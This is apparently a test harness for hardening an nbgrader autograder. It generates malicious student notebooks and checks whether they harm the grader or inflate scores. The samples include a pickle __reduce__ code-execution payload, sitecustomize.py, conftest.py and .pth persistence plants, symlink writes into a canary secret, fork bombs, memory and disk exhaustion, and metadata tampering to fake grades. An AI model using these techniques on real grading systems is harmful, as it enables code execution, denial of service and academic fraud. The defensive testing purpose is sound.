    "write_checks": writes("the checks", "autograder/checks/*.py", "\n# spoiled\n"),
    "write_config": writes("nbgrader's configuration", "nbgrader_config.py", "\n# spoiled\n"),
    "write_home": writes("the grader's home", "canary/.bashrc", "echo spoiled\n"),
    "plant_sitecustomize": writes("code for the next Python process, sitecustomize.py", "sitecustomize.py", "pass\n"),
    "plant_conftest": writes("code for the next pytest run, conftest.py", "conftest.py", "pass\n"),
    "plant_pth": writes("code for the next Python process, a .pth file", "canary/site-packages/a.pth", "import this\n"),
    "write_above": coded(
        "harm",
        "writes into every folder above the working folder that is the course's",
        """
        import pathlib
        for folder in pathlib.Path.cwd().parents:
            if str(folder).startswith(COURSE):
                (folder / "spoiled").write_text("spoiled")
        """,
    ),
    "write_linked_file": coded(
        "harm",
        "writes through a link that came with the submission",
        'open("data.txt", "a").write("spoiled")',
        place=lambda folder, course: (folder / "data.txt").symlink_to(course / "canary" / "secret"),
        status=("wrong", "tampered"),
    ),
    "unpickled": coded(
        "harm",
        "the answer returns objects that execute code where they are unpickled",
        """
        import os
        class Bomb:
            def __reduce__(self):
                return os.system, (f"touch {COURSE}/canary/unpickled",)
        class Tensor(torch.Tensor):
            def __reduce_ex__(self, protocol):
                return os.system, (f"touch {COURSE}/canary/unpickled",)
        def product_of_experts(*a):
            return Bomb(), a[0].as_subclass(Tensor)
        """,
        points=0,
        status=("wrong", "error"),
    ),
    "connect_tcp": coded(
        "harm",
        "talks to a service on the grader's machine, by TCP",
        'import socket\nsocket.create_connection(("127.0.0.1", PORT), 2).sendall(b"spoiled")',
    ),
    "send_udp": coded(
        "harm",
        "talks to a service on the grader's machine, by UDP",
        'import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b"spoiled", ("127.0.0.1", PORT))',
    ),
    "connect_unix": coded(
        "harm",
        "talks to services on the grader's machine, by Unix sockets",
        """
        import socket
        for address in (f"\\0canary-{PORT}", COURSE + "/canary/socket"):
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.connect(address)
                    s.sendall(b"spoiled")
            except OSError as error:
                print(error)
        """,
    ),
    "listen": coded(
        "harm",
        "listens for connections from elsewhere",
        """
        import socket, threading, time
        server = socket.create_server(("127.0.0.1", PORT + 1))
        server.settimeout(6)
        time.sleep(3)
        """,
    ),
    "daemon": coded(
        "harm",
        "leaves a process of its own session that writes later",
        daemon("""
        end = time.time() + 40
        while time.time() < end and os.path.exists(COURSE + "/canary") and not os.path.exists(COURSE + "/canary/late"):
            time.sleep(4)
            open(COURSE + "/canary/late", "w").write("spoiled")
        time.sleep(5)
        """),
        status=BROKEN,
    ),
    "deaf_daemon": coded(
        "harm",
        "leaves four processes that ignore every signal they can and use the processor",
        daemon("""
        for _ in range(2):
            os.fork()
        for number in (1, 2, 3, 13, 14, 15, 24):
            signal.signal(number, signal.SIG_IGN)
        end = time.time() + 30
        while time.time() < end:
            sum(range(10000))
        """),
        status=BROKEN,
    ),
    "fork_bomb": coded(
        "harm",
        "200 processes at once",
        """
        import os, signal, time
        children = []
        try:
            for _ in range(200):
                child = os.fork()
                if child == 0:
                    try:
                        time.sleep(20)
                    finally:
                        os._exit(0)
                children.append(child)
            took("200 processes")
        finally:
            for child in children:
                os.kill(child, signal.SIGKILL)
                os.waitpid(child, 0)
        """,
        status=BROKEN,
    ),
    "fill_disk": coded(
        "harm",
        "1.5 GB of files",
        """
        import os, tempfile
        made = []
        try:
            for folder in (".", tempfile.gettempdir(), "/dev/shm"):
                made.append(os.path.join(folder, STUDENT))
                with open(made[-1], "wb") as file:
                    for _ in range(50):
                        file.write(bytes(10**7))
            took("1.5 GB of disk")
        finally:
            for path in made:
                os.path.exists(path) and os.remove(path)
        """,
        status=BROKEN,
    ),
    "many_files": coded(
        "harm",
        "20 000 files",
        """
        import os, shutil
        os.mkdir("many")
        try:
            for i in range(20000):
                open(f"many/{i}", "w").close()
            took("20 000 files")
        finally:
            shutil.rmtree("many")
        """,
        status=BROKEN,
    ),
    "memory_bomb": called(
        "harm",
        "6 GiB of memory in the first call",
        once("""
        block = torch.empty(6 << 30, dtype=torch.uint8)
        block[::4096] = 1
        took("6 GiB of memory")
        del block
        """),
        status=KILLED,
    ),
    "memory_bomb_in_children": called(
        "harm",
        "1.5 GiB of memory in each of four children",
        once("""
        import os, time
        children = []
        for _ in range(4):
            child = os.fork()
            if child == 0:
                try:
                    block = bytearray(3 << 29)
                    block[::4096] = b"1" * len(block[::4096])
                    time.sleep(4)
                    os._exit(0)
                finally:
                    os._exit(1)
            children.append(child)
        ends = [os.waitpid(child, 0)[1] for child in children]
        took("1.5 GiB in each of four children") if not any(ends) else None
        """),
        status=KILLED,
    ),
    "print_flood": coded(
        "harm",
        "500 MB of output",
        """
        import time
        end = time.time() + 15
        for i in range(500):
            if time.time() > end: break
            print("x" * 999_999)
        """,
        status=BROKEN,
    ),
    "print_flood_in_call": called(
        "harm",
        "100 MB of output in a call, past Python's own streams",
        once("import os\nfor _ in range(100):\n    os.write(1, b'x' * 10**6)\n    os.write(2, b'x' * 10**6)"),
        status=BROKEN,
    ),
    "display_flood": coded(
        "harm",
        "20 000 displays",
        "from IPython.display import display\nfor i in range(20000):\n    display(i)",
        status=BROKEN,
    ),
    "kill_parent": called(
        "harm",
        "kills the process that started it",
        once("import os\nif os.getppid() > 1:\n    os.kill(os.getppid(), 9)"),
        status=KILLED,
    ),
    "swallow_interrupt": called(
        "harm",
        "a loop that swallows every exception, KeyboardInterrupt among them",
        """
        import time
        end = time.time() + 50
        while time.time() < end:
            try:
                time.sleep(1)
            except BaseException:
                pass
        """,
        points=0,
        status=("timeout", "died"),
    ),
    "sleep": called("harm", "sleeps past every limit", "import time\ntime.sleep(55)", points=0, status=("timeout",)),
    "endless_cell": coded(
        "harm",
        "the answer's cell itself runs past every limit",
        "import time\nend = time.time() + 55\nwhile time.time() < end:\n    pass",
        status=("timeout", "wrong", "died"),
    ),
    "exit": called("harm", "os._exit in a call", "import os\nos._exit(0)", points=0, status=("died",)),
    "segfault": called(
        "harm", "a segfault in a call", "import ctypes\nctypes.string_at(0)", points=0, status=("died",)
    ),
    "stop_itself": called(
        "harm",
        "stops itself with SIGSTOP; a child wakes it 40 s later",
        once("""
        import os, signal, time
        parent = os.getpid()
        if os.fork() == 0:
            try:
                time.sleep(40)
            finally:
                os.kill(parent, signal.SIGCONT)
                os._exit(0)
        os.kill(parent, signal.SIGSTOP)
        """),
        status=("timeout", "died", "wrong"),
    ),
    "close_files": called("harm", "closes all file descriptors", "import os\nos.closerange(3, 4096)", status=KILLED),
    "new_session": called(
        "harm",
        "leaves its session and ignores signals, then loops",
        once("""
        import os, signal, time
        for leave in (os.setsid, os.setpgrp):
            try:
                leave()
            except OSError:
                pass
        for number in (1, 2, 14, 15):
            signal.signal(number, signal.SIG_IGN)
        end = time.time() + 45
        while time.time() < end:
            pass
        """),
        status=("timeout", "died", "wrong"),
    ),
    "threads": coded(
        "harm",
        "50 threads that go on",
        """
        import threading, time
        def run(end=time.time() + 40):
            while time.time() < end:
                sum(range(1000))
        for _ in range(50):
            threading.Thread(target=run).start()
        """,
        status=BROKEN,
    ),
    "base_exception": called(
        "harm",
        "raises something that is no Exception",
        "raise type('Out', (BaseException,), {})('out')",
        points=0,
        status=("error", "died"),
    ),
    "lying_exception": called(
        "harm",
        "raises an exception whose text cannot be made",
        "raise type('Out', (Exception,), {'__str__': lambda s: 1 / 0, '__repr__': lambda s: 1 / 0})()",
        points=0,
        status=("error", "died"),
    ),
    "huge_message": called(
        "harm",
        "raises an error with a message of 20 MB",
        "raise ValueError('x' * 20_000_000)",
        points=0,
        status=("error",),
    ),
    "replace_stdout": coded(
        "harm",
        "replaces sys.stdout by something that raises",
        """
        class Out:
            def __getattr__(self, name):
                raise RuntimeError(name)
        sys.stdout = sys.stderr = sys.__stdout__ = Out()
        """,
        status=BROKEN,
    ),
    "atexit": coded(
        "harm",
        "writes and lingers when the kernel ends",
        """
        import atexit, time
        def late():
            open(COURSE + "/canary/late", "w").write("spoiled")
            time.sleep(30)
        atexit.register(late)
        """,
    ),
    "huge_shape": coded(
        "harm",
        "a tensor of 10**12 elements that takes four bytes",
        "def product_of_experts(*a):\n    return (torch.zeros(1).expand(10**12),) * 2",
        points=2,
        status=("wrong", "error"),
    ),
    "huge_integers": coded(
        "harm",
        "losses of 30 000 digits",
        "def vae_loss(*a, **k):\n    return (10**30000,) * 4",
        answer="",
        points=0,
        exercise="vae_loss",
        status=("wrong", "error"),
    ),
    "nested_lists": coded(
        "harm",
        "lists nested 100 000 deep, and one that holds itself",
        """
        def product_of_experts(*a):
            deep, own = [], []
            own.append(own)
            for _ in range(100_000):
                deep = [deep]
            return deep, own
        """,
        points=0,
        status=("wrong", "error", "died"),
    ),
    "huge_list": coded(
        "harm",
        "a tuple of ten million numbers",
        "def product_of_experts(*a):\n    return (1,) * 10_000_000",
        points=0,
        status=("wrong", "error"),
    ),
    "odd_tensors": coded(
        "harm",
        "sparse, quantised, complex and empty tensors, one after the other",
        """
        kinds = [torch.eye(2).to_sparse(), torch.quantize_per_tensor(torch.eye(2), 0.1, 0, torch.qint8),
                 torch.zeros(2, dtype=torch.complex64), torch.empty(2, device="meta"), torch.zeros(0, 10**9)]
        def product_of_experts(*a):
            kinds.append(kinds.pop(0))
            return kinds[0], kinds[0]
        """,
        points=1,
        status=("wrong", "error"),
    ),
    **{
        f"{name}_length": coded(
            "harm",
            f"a dataset whose length is {words}",
            f"""
            class PairedDataset(Dataset):
                def __init__(self, first, second): self.first, self.second = first, second
                def __len__(self): return {length}
                def __getitem__(self, i): return self.first[0][0], self.second[0][0], 0
            """,
            answer="",
            points=0 if words != "10**9" else 1,
            exercise="paired_dataset",
            status=("wrong", "error", "timeout"),
        )
        for name, words, length in (
            ("huge", "10**9", "10**9"),
            ("negative", "negative", "-3"),
            ("text", "a text", "'many'"),
        )
    },
    "endless_length": coded(
        "harm",
        "a dataset whose items never end",
        """
        class PairedDataset(Dataset):
            def __init__(self, *a): pass
            def __len__(self): return 3
            def __getitem__(self, i): return iter(int, 1)
            def __iter__(self): return iter(int, 1)
        """,
        answer="",
        points=0,
        exercise="paired_dataset",
        status=("wrong", "error", "timeout"),
    ),
}


# ------------------------------------------------------------------------------------------------------------- tamper


def duplicate(submission: Submission) -> None:
    """The graded cell twice, once with an own source."""
    again = copy.deepcopy(graded(submission))
    again.id, again.source = "again", "15"
    notebook(submission).cells.append(again)


def delete(submission: Submission) -> None:
    """No graded cell."""
    notebook(submission).cells.remove(graded(submission))


def strip(submission: Submission) -> None:
    """No cell says what it is."""
    for cell in notebook(submission).cells:
        cell.metadata.pop("nbgrader", None)


def retype(submission: Submission) -> None:
    """The graded cell is text."""
    cells = notebook(submission).cells
    cell = graded(submission)
    metadata = {**cell.metadata, "nbgrader": {**cell.metadata.nbgrader, "cell_type": "markdown"}}
    cells[cells.index(cell)] = new_markdown_cell("15", metadata=metadata)


def bonus(submission: Submission) -> None:
    """One more graded cell."""
    marks = {"grade": True, "grade_id": "bonus", "points": 100, "locked": False, "solution": False}
    cell = new_code_cell("100", metadata={"nbgrader": {**marks, "schema_version": 3, "cell_type": "code"}})
    notebook(submission).cells.append(cell)


def mark(**marks: object) -> Change:
    """Return a change of what the graded cell says of itself."""
    return lambda submission: graded(submission).metadata.nbgrader.update(marks)


def grade_own_cell(submission: Submission) -> None:
    """The student's cell is the graded one and ends with 15."""
    cell = find(submission, "product_of_experts_answer")
    cell.metadata.nbgrader.update(grade=True, points=15, locked=False, solution=False)
    cell.source += "\n15"


def rewrite_graded(submission: Submission) -> None:
    """Another source in the locked cell."""
    graded(submission).source = "15"


def stored_outputs(submission: Submission) -> None:
    """The file holds outputs of 15, and the kernel ends before they are replaced."""
    cell = find(submission, "product_of_experts_answer")
    cell.source += "\nimport os, threading\nthreading.Timer(0.5, os._exit, (0,)).start()\nimport time\ntime.sleep(2)"
    graded(submission).outputs = [new_output("execute_result", {"text/plain": "15"}, execution_count=1)]
    graded(submission).execution_count = 1


def twice_named(submission: Submission) -> None:
    """The student's cell carries the name of the graded cell."""
    cell = find(submission, "product_of_experts_answer")
    cell.metadata.nbgrader.update(copy.deepcopy(graded(submission).metadata.nbgrader), points=15)
    cell.source += "\n15"


def kernelspec(**spec: str) -> Change:
    """Return a change of the kernel that the notebook asks for."""
    return lambda submission: notebook(submission).metadata.update(kernelspec=spec)


def many_cells(submission: Submission) -> None:
    """Two thousand cells."""
    notebook(submission).cells[1:1] = [new_code_cell(f"pass  # {i}") for i in range(2000)]


def slow_cells(submission: Submission) -> None:
    """Ten cells that each stay below the limit for one cell."""
    notebook(submission).cells[1:1] = [new_code_cell(f"import time; time.sleep(1.5)  # {i}") for i in range(10)]


def as_text(change: Callable[[str], str]) -> Place:
    """Return a place that rewrites the text of the notebook."""

    def place(folder: Path, course: Path) -> None:
        path = folder / NOTEBOOK
        path.write_bytes(change(path.read_text()).encode("utf-8", "surrogateescape"))

    return place


def third_format(text: str) -> str:
    """Return a notebook of 2014: worksheets, input instead of source."""
    cells = [
        {
            "cell_type": "code",
            "input": cell["source"],
            "language": "python",
            "outputs": [],
            "metadata": cell["metadata"],
        }
        for cell in json.loads(text)["cells"]
        if cell["cell_type"] == "code"
    ]
    return json.dumps({"metadata": {}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}]})


def swollen(text: str) -> str:
    """Return the notebook with an output of 200 MB."""
    content = json.loads(text)
    cell = next(cell for cell in content["cells"] if cell["cell_type"] == "code")
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 200_000_000}]
    return json.dumps(content)


def as_folder(folder: Path, course: Path) -> None:
    """A folder of the notebook's name."""
    (folder / NOTEBOOK).rename(folder / "notebook")
    (folder / NOTEBOOK).mkdir()
    (folder / "notebook").rename(folder / NOTEBOOK / NOTEBOOK)


def as_link(folder: Path, course: Path) -> None:
    """A link to another student's notebook."""
    (folder / NOTEBOOK).unlink()
    (folder / NOTEBOOK).symlink_to(course / "submitted" / BYSTANDER / ASSIGNMENT / NOTEBOOK)


def as_fifo(folder: Path, course: Path) -> None:
    """A link to a file that never ends."""
    (folder / NOTEBOOK).unlink()
    (folder / NOTEBOOK).symlink_to("/dev/zero")


def deep_metadata(text: str) -> str:
    """Return the notebook with metadata nested 100 000 deep."""
    return text.replace('"metadata": {', '"metadata": {"deep": ' + "[" * 100_000 + "]" * 100_000 + ", ", 1)


def surrogates(text: str) -> str:
    """Return the notebook with half of a character in a source."""
    return text.replace("import sys\\n", "import sys  # \\ud800\\n", 1)


TAMPER: dict[str, Attack] = {
    "duplicated_cell": altered("gain", "the graded cell twice, once with a source of its own", duplicate),
    "deleted_cell": altered("harm", "the graded cell deleted, the answer honest", delete, honest=True, status=REPAIRED),
    "deleted_cell_wrong": altered("gain", "the graded cell deleted, the answer wrong", delete),
    "renamed_cell": altered(
        "harm", "the graded cell renamed, the answer honest", mark(grade_id="mine"), honest=True, status=REPAIRED
    ),
    "retyped_cell": altered("gain", "the graded cell turned into text", retype),
    "stripped_metadata": altered(
        "harm", "nbgrader's metadata removed everywhere, the answer honest", strip, honest=True, status=REPAIRED
    ),
    "points_changed": altered("gain", "the graded cell says that it is worth 1500 points", mark(points=1500)),
    "points_absurd": altered("harm", "the graded cell's points are a text", mark(points="many"), status=("tampered",)),
    "manual_grading": altered("gain", "the graded cell says that it is a solution", mark(solution=True, locked=False)),
    "bonus_cell": altered("gain", "a graded cell of its own, worth 100 points", bonus),
    "own_cell_graded": altered("gain", "the answer's cell says that it is graded, and ends with 15", grade_own_cell),
    "twice_named": altered("gain", "the answer's cell takes the name of the graded cell", twice_named),
    "rewritten_cell": altered("gain", "the source of the graded cell is 15", rewrite_graded),
    "stored_outputs": altered("gain", "stored outputs of 15 and a kernel that dies", stored_outputs, status=KILLED),
    "unknown_kernel": altered(
        "harm",
        "another kernelspec, of a kernel that does not exist",
        kernelspec(name="bash-like", display_name="Bash", language="bash"),
        honest=True,
        status=REPAIRED,
    ),
    "many_cells": altered(
        "harm", "2000 cells more", many_cells, honest=True, status=("passed", "tampered", "timeout", "error")
    ),
    "slow_cells": altered(
        "harm", "10 cells that take 15 s together", slow_cells, honest=True, status=("passed", "timeout", "tampered")
    ),
    "nbformat_99": placed(
        "nbformat 99",
        as_text(lambda text: re.sub(r'"nbformat": 4', '"nbformat": 99', text)),
        status=("tampered", "error", "passed"),
        points=15,
    ),
    "nbformat_3": placed("the layout of nbformat 3", as_text(third_format), status=(*REPAIRED, "error"), points=15),
    "broken_json": placed("half of the JSON", as_text(lambda text: text[: len(text) // 2]), status=LOST),
    "empty_file": placed("an empty file", as_text(lambda text: ""), status=LOST),
    "other_json": placed("JSON that is no notebook", as_text(lambda text: "[15]"), status=LOST),
    "no_utf8": placed("bytes that are no text", as_text(lambda text: "\udcff\udcfe" + text), status=LOST),
    "half_character": placed(
        "half of a character in a source", as_text(surrogates), status=(*LOST, "passed", "wrong"), points=15
    ),
    "deep_json": placed("JSON nested 100 000 deep", as_text(deep_metadata), status=(*LOST, "passed"), points=15),
    "huge_notebook": placed("a notebook of 200 MB", as_text(swollen), status=(*LOST, "passed"), points=15),
    "notebook_is_folder": placed("a folder of the notebook's name", as_folder, status=LOST),
    "notebook_is_link": placed("a link to another student's notebook", as_link, status=LOST),
    "notebook_is_endless": placed("a link to /dev/zero", as_fifo, status=LOST),
}

ATTACKS: dict[str, Attack] = {**GAIN, **LEARN, **HARM, **TAMPER}


# -------------------------------------------------------------------------------------------------- making and finding


def reduced(submission: Submission, exercise: str, student: str, course: Path) -> Submission:
    """Return a submission with the notebook of one exercise, and in that what nbgrader knows of."""
    name = CELLS[ANSWERS[exercise]]
    only = copy.deepcopy(submission[name])
    prelude = PRELUDE.format(
        course=str(course), student=student, bystander=BYSTANDER, secret=SECRET, port=PORT, daemon=DAEMON
    )
    known = [cell for cell in only.cells if "nbgrader" in cell.metadata]
    only.cells = [new_code_cell(prelude, id="prelude"), new_code_cell(IMPORTS, id="imports"), *known]
    return {name: only}


def write(submission: Submission, folder: Path) -> None:
    """Write notebooks."""
    folder.mkdir(parents=True)
    for name, content in submission.items():
        (folder / f"{name}.ipynb").write_text(nbformat.writes(content) + "\n")


def make_attackers(into: Path, course: Path) -> None:
    """Write the attackers to `into`/STUDENT/ASSIGNMENT; they attack that course (an absolute path)."""
    right = solved()
    for student, attack in ATTACKS.items():
        submission = reduced(right, attack.exercise, student, course)
        attack.change(submission)
        folder = into / student / ASSIGNMENT
        write(submission, folder)
        if attack.place:
            attack.place(folder, course)


def make_bystander(into: Path, course: Path) -> None:
    """Write the honest student, who earns all points."""
    right = solved()
    whole: Submission = {}
    for exercise in ANSWERS:
        whole |= reduced(right, exercise, BYSTANDER, course)
    write(whole, into / BYSTANDER / ASSIGNMENT)


def make_canary(course: Path) -> None:
    """Write the folder that stands for the grader's home."""
    (course / "canary").mkdir()
    (course / "canary" / "secret").write_text("the canary's secret, which nobody is to read\n")
    (course / "canary" / ".bashrc").write_text("# nothing yet\n")


def snapshot(course: Path) -> Snapshot:
    """Return what must not change: all files of the course but the attackers' own, and other students' grades."""
    state: Snapshot = {}
    for path in course.rglob("*"):
        name = path.relative_to(course)
        own = {*name.parts, path.stem} & set(ATTACKS)
        if own or "__pycache__" in name.parts or name.name.startswith(("gradebook.db", ".nbgrader")):
            continue
        if path.is_symlink():
            state[str(name)] = f"link to {path.readlink()}"
        elif path.is_file():
            state[str(name)] = hashlib.sha256(path.read_bytes()).hexdigest()
    try:
        with closing(Gradebook(f"sqlite:///{course}/gradebook.db")) as book:
            state["the gradebook"] = "readable"
            state["the exercises' points"] = str(sorted((a.name, a.max_score) for a in book.assignments))
            for student in book.students:
                if student.id not in ATTACKS:
                    state[f"the grades of {student.id}"] = str(student.score)
    except Exception as error:  # whatever an attack left of the gradebook
        state["the gradebook"] = f"unreadable: {type(error).__name__}"
    return state


def harm(course: Path, before: Snapshot) -> list[str]:
    """Return what was harmed since a snapshot: other students' files and grades, the checks, the canary."""
    now = snapshot(course)
    changed = [f"changed {name}" for name in before if name in now and before[name] != now[name]]
    removed = [f"removed {name}" for name in before if name not in now]
    added = [f"added {name}" for name in now if name not in before]
    running = [f"{DAEMON} still runs"] if daemons() else []
    return sorted(changed + removed + added) + running


def daemons() -> list[int]:
    """Return the processes that try to outlive the grading."""
    found = []
    for path in Path("/proc").glob("[0-9]*/comm"):
        with suppress(OSError):
            if path.read_text().strip() == DAEMON and "State:\tZ" not in (path.parent / "status").read_text():
                found.append(int(path.parent.name))
    return found


def learned(course: Path, student: str) -> list[str]:
    """Return what a submission could read, as far as its graded files show."""
    return sorted({text for path in _graded(course, student) for text in _marked(path, "LEARNED ")})


def took(course: Path, student: str) -> list[str]:
    """Return which bounds a submission could exhaust without being stopped."""
    return sorted({text for path in _graded(course, student) for text in _marked(path, "TOOK ")})


def _graded(course: Path, student: str) -> Iterator[Path]:
    for step in ("autograded", "feedback"):
        yield from (path for path in (course / step / student).rglob("*") if path.suffix in (".ipynb", ".html"))
    yield from course.glob(f"grades/*/{student}.json")


def _marked(path: Path, mark: str) -> Iterator[str]:
    if path.is_file() and path.stat().st_size < 10**9:  # not /dev/zero
        for found in re.findall(re.escape(mark) + r"([^\n<]{1,70})", path.read_text(errors="replace")):
            yield found.split("\\n")[0].replace('\\"', '"')


class Neighbour:
    """Services on the grader's machine, and a client of the student's: what reaches them is written to the canary."""

    def __init__(self, course: Path) -> None:
        self._canary = course / "canary"
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> "Neighbour":
        self._sockets = [socket.create_server(("127.0.0.1", PORT)), socket.socket(type=socket.SOCK_DGRAM)]
        self._sockets[1].bind(("127.0.0.1", PORT))
        for address in (f"\0canary-{PORT}", str(self._canary / "socket")):
            self._sockets.append(socket.socket(socket.AF_UNIX))
            self._sockets[-1].bind(address)
            self._sockets[-1].listen()
        self._thread.start()
        return self

    def __exit__(self, *exception: object) -> None:
        self._ended.set()
        self._thread.join()
        for opened in self._sockets:
            opened.close()
        (self._canary / "socket").unlink(missing_ok=True)

    def _serve(self) -> None:
        ready = selectors.DefaultSelector()
        for opened in self._sockets:
            opened.setblocking(False)
            ready.register(opened, selectors.EVENT_READ)
        while not self._ended.is_set():
            for key, _ in ready.select(timeout=0.3):
                with suppress(OSError):
                    kind = key.fileobj
                    assert isinstance(kind, socket.socket)
                    if kind.type == socket.SOCK_DGRAM:
                        kind.recv(100)
                    else:
                        kind.accept()[0].close()
                    self._received(f"{kind.family.name} {kind.type.name}")
            with suppress(OSError):
                socket.create_connection(("127.0.0.1", PORT + 1), 0.1).close()
                self._received("the student's own service")

    def _received(self, what: str) -> None:
        with (self._canary / f"reached by {what}").open("a") as file:
            file.write(what)


def copy_submission(student: str, from_class: Path, submitted: Path) -> None:
    """Copy one student's folder, links as links."""
    shutil.copytree(from_class / student, submitted / student, symlinks=True)
